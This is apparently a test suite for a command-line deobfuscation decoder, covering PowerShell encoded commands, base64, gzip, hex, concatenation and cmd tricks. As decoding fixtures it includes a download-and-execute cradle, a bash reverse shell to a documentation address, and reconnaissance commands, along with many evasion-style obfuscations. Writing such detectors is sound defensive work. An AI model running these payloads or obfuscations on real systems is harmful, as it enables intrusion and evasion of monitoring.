import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import type { Decoded } from "#contracts/decoding";
import { decodeLimits } from "./budget.ts";
import { decode } from "./decode.ts";

const utf16 = (text: string) => Buffer.from(text, "utf16le").toString("base64");
const base64 = (data: string | Uint8Array) => Buffer.from(data).toString("base64");
const texts = ({ decodings }: Decoded) => decodings.map(({ text }) => text);
const chains = ({ decodings }: Decoded) => decodings.map(({ steps }) => steps.join(" "));
const last = (text: string) => texts(decode(text)).at(-1);

describe("PowerShell's encoded command", () => {
  const command = "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a')";
  it.each([
    "-e",
    "-en",
    "-enc",
    "-enco",
    "-EncodedCommand",
    "-ec",
    "/e",
    "/EncodedCommand",
    "\u2013enc",
    "\u2014EncodedCommand",
    "\u2015e",
    "-encodedarguments",
    "-^e^n^c",
    "-en`c",
  ])("is decoded after %s", (option) => {
    expect(last(`powershell.exe -nop ${option} ${utf16(command)}`)).toBe(command);
    expect(last(`powershell ${option} "${utf16(command)}"`)).toBe(command);
  });

  it("is decoded however short it is", () => {
    const decoded = decode(`powershell -e ${utf16("ls")}`);
    expect(decoded).toEqual({
      decodings: [{ steps: ["base64", "utf-16le"], text: "ls", cut: false }],
      undecoded: [],
    });
  });

  it("is decoded where another program passes it on", () => {
    expect(last(`cmd.exe /C "chcp.com 65001 && PowerShell -EncodedCommand ${utf16(command)}"`)).toBe(command);
  });

  it("may be in any script of the world", () => {
    expect(last(`pwsh -enc ${utf16("Write-Host 'привет, 世界'")}`)).toBe("Write-Host 'привет, 世界'");
  });

  it("may be cut off by the log", () => {
    expect(command.startsWith(last(`powershell -enc ${utf16(command).slice(0, 61)}`) ?? "none")).toBe(true);
  });

  it("is not what an option of another program is", () => {
    expect(decode("certutil -encode file.bat file_.base64").decodings).toEqual([]);
    expect(decode("grep -e abcdefgh").decodings).toEqual([]);
  });
});

describe("base64", () => {
  it.each([
    ["[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%'))", "id"],
    ['bash -c "echo % | base64 -d | bash"', "id; uname -a"],
    ["bash -c {echo,%}|{base64,-d}|{bash,-i}", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
    ["python3 -c \"import base64; exec(base64.b64decode(b'%'))\"", "print(1)"],
    ['eval(atob("%"))', "alert(document.domain)"],
    ["cmd /c echo % > %TEMP%\\a.b64 & certutil -decode %TEMP%\\a.b64 a.txt", "a short note for somebody"],
    ["tool --data=%", "something that is long enough to be no accident"],
  ])("is decoded in %s", (line, text) => {
    expect(last(line.replace("%", base64(text)))).toBe(text);
  });

  it("is decoded over the lines that it was wrapped into", () => {
    const text = "a script with many lines of the same kind, each with a number: ".repeat(5);
    const wrapped = base64(text).replace(/.{76}/g, "$&\r\n  ");
    expect(last(`$payload = @'\r\n  ${wrapped}\r\n'@`)).toBe(text);
  });

  it("that is a program is reported as one", () => {
    const program = Buffer.concat([Buffer.from("MZ\x90\0\x03\0\0\0", "latin1"), Buffer.alloc(120, 0xd3)]);
    expect(decode(`$x = '${base64(program)}'`)).toEqual({
      decodings: [],
      undecoded: [{ reason: "program", limit: 128, steps: ["base64"] }],
    });
  });
});

describe("packed text", () => {
  const script = "function Get-Something { Get-Process | Where-Object Name -eq 'lsass' }\n".repeat(3);
  it("is unpacked from gzip, zlib and deflate", () => {
    const stream = (name: string, data: Uint8Array) =>
      `IEX (New-Object IO.StreamReader(New-Object IO.Compression.${name}([IO.MemoryStream][Convert]::FromBase64String('${base64(data)}'))))`;
    expect(chains(decode(stream("GzipStream", gzipSync(script))))).toEqual(["base64 gzip utf-8"]);
    expect(chains(decode(stream("ZLibStream", deflateSync(script))))).toEqual(["base64 zlib utf-8"]);
    expect(decode(stream("DeflateStream", deflateRawSync(script))).decodings).toEqual([
      { steps: ["base64", "deflate", "utf-8"], text: script, cut: false },
    ]);
  });

  it("is shown as far as it was recorded", () => {
    const packed = base64(gzipSync(script).subarray(0, -12));
    expect(script.startsWith(last(`FromBase64String('${packed}')`) ?? "none")).toBe(true);
  });

  it("does not grow beyond the limit", () => {
    const bomb = base64(gzipSync(Buffer.alloc(50_000_000, "Get-Process; ")));
    const { decodings } = decode(`FromBase64String('${bomb}')`);
    expect(decodings).toMatchObject([{ steps: ["base64", "gzip", "utf-8"], cut: true }]);
    expect(decodings[0]?.text.length).toBeLessThanOrEqual(decodeLimits.size);
    expect(decodings[0]?.text).toMatch(/^Get-Process; Get-Process; /);
  });
});

describe("hexadecimal digits", () => {
  it.each([
    ['perl -e \'print pack("H*","77686f616d69202f616c6c202626206e6574")\'', "whoami /all && net"],
    ['s = "\\x77\\x68\\x6f\\x61\\x6d\\x69"', "whoami"],
    ["'\\u0077\\u0068\\u006f\\u0061\\u006d\\u0069'", "whoami"],
    ["$b = 0x77,0x68,0x6f,0x61,0x6d,0x69", "whoami"],
    ["unescape('%77%68%6f%61%6d%69')", "whoami"],
    ["'77-68-6F-61-6D-69-20-2F-67-72-6F-75-70-73' -split '-'", "whoami /groups"],
    ["CAST(0x6e65742075736572202f646f6d61696e AS varchar)", "net user /domain"],
  ])("are decoded in %s", (text, expected) => {
    expect(texts(decode(text))).toContain(expected);
  });
});

describe("expressions", () => {
  it.each([
    ["IEX ('Inv'+'oke-Exp'+'ression')", "IEX ('Invoke-Expression')", "concatenation"],
    ["&('{1}{0}' -f 'X','IE')", "&('IEX')", "format"],
    ["&(\"{0}{2}{1}\"-f'new','ct','-obje')", "&('new-object')", "format"],
    ["powershell I`E`X (n`Ew-obj`Ect Net.WebClient)", "powershell IEX (nEw-objEct Net.WebClient)", "backticks"],
    ["('wXYZhoXYZami'-replace'XYZ','')", "('whoami')", "replacement"],
    ["('w--ho--ami').Replace('--','')", "'whoami'", "replacement"],
    ["'imaohw'[-1..-6] -join ''", "'whoami'", "reordering concatenation"],
    ["-join('who','ami')", "'whoami'", "concatenation"],
    ["[string]::Join('', ('who','ami'))", "'whoami'", "concatenation"],
    ["[char]119+[char]0x68+[char]111", "'who'", "character-codes concatenation"],
    ["-join [char[]](119,104,111,97,109,105)", "'whoami'", "character-codes concatenation"],
    ["(119,104,111|%{[char]$_}) -join ''", "'who'", "character-codes concatenation"],
    ["('77!68!6f'.Split('!')|ForEach-Object{[char][Convert]::ToInt16($_,16)})-join''", "'who'", ""],
    ["(116,107,108|%{[char]($_ -bxor 3)}) -join ''", "'who'", "character-codes concatenation"],
    ["eval(String.fromCharCode(119, 104, 111))", "eval('who')", "character-codes"],
    ['Execute(Chr(119) & Chr(104) & "oami")', "Execute('whoami')", "character-codes concatenation"],
    ["EXEC(CHAR(119)+CHAR(104)+CHAR(0x6f))", "EXEC('who')", "character-codes concatenation"],
    ["Execute Chr(&H77) & Chr(&H68) & Chr(&H6F)", "Execute 'who'", "character-codes concatenation"],
    ["eval('imaohw'.split('').reverse().join(''))", "eval('whoami')", "reordering concatenation"],
    ["$a='who';$b='ami';IEX ($a+$b)", "$a='who';$b='ami';IEX ('whoami')", "variables concatenation"],
    ["$a='who';$b='ami';&(\"$a$b\")", "$a='who';$b='ami';&('whoami')", "variables"],
    ["$cmd + 'who' + 'ami'", "$cmd + 'whoami'", "concatenation"],
    ["Get-Item 'a'; $x = ('who'+'ami'); 'b'", "Get-Item 'a'; $x = ('whoami'); 'b'", "concatenation"],
  ])("are evaluated in %s", (text, expected, steps) => {
    const decoded = decode(text);
    expect(decoded.decodings[0]?.text).toBe(expected);
    expect(steps === "" ? steps : chains(decoded)[0]).toBe(steps);
  });

  it("are evaluated within the quotes of a command line", () => {
    expect(last('powershell -c "IEX (\\"who\\"+\\"ami\\")"')).toBe("powershell -c \"IEX ('whoami')\"");
    expect(last("powershell -c \"&('who'+'ami') -x\"")).toBe("powershell -c \"&('whoami') -x\"");
  });

  it("are evaluated until nothing is left, and what they yield is decoded", () => {
    const encoded = utf16("Get-Process lsass");
    const [first = "", second = ""] = [encoded.slice(0, 13), encoded.slice(13)];
    const decoded = decode(`powershell -enc ('${first}'+'${second}')`);
    expect(decoded.decodings).toEqual([
      { steps: ["concatenation"], text: `powershell -enc ('${encoded}')`, cut: false },
      { steps: ["concatenation", "base64", "utf-16le"], within: 0, text: "Get-Process lsass", cut: false },
    ]);
  });

  it("of plain code stay as they are", () => {
    for (const code of [
      "Write-Host ('Hello, ' + 'world')",
      '"C:\\Program Files\\a.exe" -f "b" -replace "c","d"',
      "$path = 'C:\\Temp\\' + 'file.txt'",
      "'{0}: {1}' -f 'a', 'b'",
      '"line one`nline two`tend"',
      "# don't touch `this` or 'that'\n$a = 'b' # it's\n'c'",
      "[System.Nullable`1[[System.Boolean]]]",
      "$server = 'srv'; $name = $server + '01'; Get-Service -ComputerName $name",
      "$a = 'who'; $a = 'net'; IEX ($a + 'ami')",
      "foreach ($a in 'x') { $a += 'who' }; IEX ($a + 'ami')",
      'Write-Host "$([char]27)[31mred$([char]27)[0m"',
      "git diff a^b c^ HEAD~1",
      'findstr /r "^foo.*bar^" file',
    ]) {
      expect(decode(code), code).toEqual({ decodings: [], undecoded: [] });
    }
  });
});

describe("tricks of cmd", () => {
  it.each([
    ["cmd /c p^o^w^e^r^s^h^e^l^l", "cmd /c powershell", "carets"],
    ['cmd /c "set a=who&& set b=ami&& call %a%%b%"', 'cmd /c "set a=who&& set b=ami&& call whoami"', "variables"],
    ['cmd /c "set x=xwhoamix&& call %x:~1,6%"', 'cmd /c "set x=xwhoamix&& call whoami"', "variables"],
    ['cmd /v:on /c "set x=w#h#o&& !x:#=!"', 'cmd /v:on /c "set x=w#h#o&& who"', "variables"],
  ])("are undone in %s", (line, expected, step) => {
    expect(decode(line).decodings).toEqual([{ steps: [step], text: expected, cut: false }]);
  });

  it("are left alone where the value of a variable is not certain", () => {
    for (const line of [
      "cmd /c %COMSPEC:~-7,3%",
      "cmd /c set A=b&& tool %A%",
      'cmd /c "set PATH=C:\\x;%PATH%&& call tool %PATH%"',
      'cmd /c "set x=a&& set x=b&& call %x%"',
    ]) {
      expect(decode(line), line).toEqual({ decodings: [], undecoded: [] });
    }
  });
});

describe("encodings within each other", () => {
  it("are decoded with the chain of steps to each", () => {
    const inner = "Start-Process calc; 'the innermost of the texts'";
    const middle = `$x = New-Object IO.MemoryStream(,[Convert]::FromBase64String('${base64(gzipSync(`IEX '${base64(inner)}'`))}'))`;
    const decoded = decode(`powershell -enc ${utf16(middle)}`);
    expect(decoded.decodings.map(({ steps, within }) => [steps.join(" "), within])).toEqual([
      ["base64 utf-16le", undefined],
      ["base64 utf-16le base64 gzip utf-8", 0],
      ["base64 utf-16le base64 gzip utf-8 base64 utf-8", 1],
    ]);
    expect(texts(decoded).at(-1)).toBe(inner);
  });

  it("end at the depth that is said", () => {
    let text = "the innermost of many texts";
    for (let level = 0; level < 12; level++) {
      text = `echo ${base64(text)}`;
    }
    const { decodings, undecoded } = decode(text);
    expect(decodings).toHaveLength(decodeLimits.depth);
    expect(undecoded).toMatchObject([{ reason: "depth", limit: 8 }]);
  });
});

describe("ordinary texts", () => {
  it.each([
    ["a GUID", "msiexec /x {550e8400-e29b-41d4-a716-446655440000} 550e8400e29b41d4a716446655440000"],
    [
      "a hash",
      "check e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 d41d8cd98f00b204e9800998ecf8427e",
    ],
    [
      "a path",
      "/usr/local/lib/node_modules/npm/node_modules/libnpmpublish/README.md C:\\Windows\\System32\\svchost.exe",
    ],
    [
      "a web token",
      "curl -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkFubmEifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c'",
    ],
    [
      "a long number",
      "tool 20260131093000123456789012345678901234567890 --seed 4052637451627384950617283940516273849506",
    ],
    [
      "a word",
      "Microsoft.Windows.Cortana.ReactivationNotificationCenterConfigurationManager InternationalizationSettings",
    ],
    ["a MAC address", "getmac 00-1A-2B-3C-4D-5E-6F-70 fe80:0000:0000:0000:0202:b3ff:fe1e:8329"],
    ["times", "log 12:30:45 10:20:30 11:22:33 09:08:07 and 50 60 70 80 90 10 20 30 40 50 60 70 80"],
    ["a list of ports", "nmap -p 80,81,82,83,84,85,86,87,88,89,90,91,92,93,94,95,96,97,98,99,100,101,102 [char]"],
    ["an address of the web", "https://example.com/?q=%D0%BF%D1%80&redirect=https%3A%2F%2Fexample.com%2Fa%20b"],
    ["svchost", "C:\\WINDOWS\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s RmSvc"],
    ["an option that is a prefix", "java -ea -Xmx2048m -cp /opt/application/libraries/everything.jar org.example.Main"],
  ])("with %s give nothing", (_, text) => {
    expect(decode(text)).toEqual({ decodings: [], undecoded: [] });
  });

  it("of the longest kind are looked at as far as the limit says", () => {
    const decoded = decode(`${" ".repeat(decodeLimits.length)}powershell -enc ${utf16("whoami")}`);
    expect(decoded).toEqual({
      decodings: [],
      undecoded: [{ reason: "length", limit: decodeLimits.length, steps: [] }],
    });
  });
});
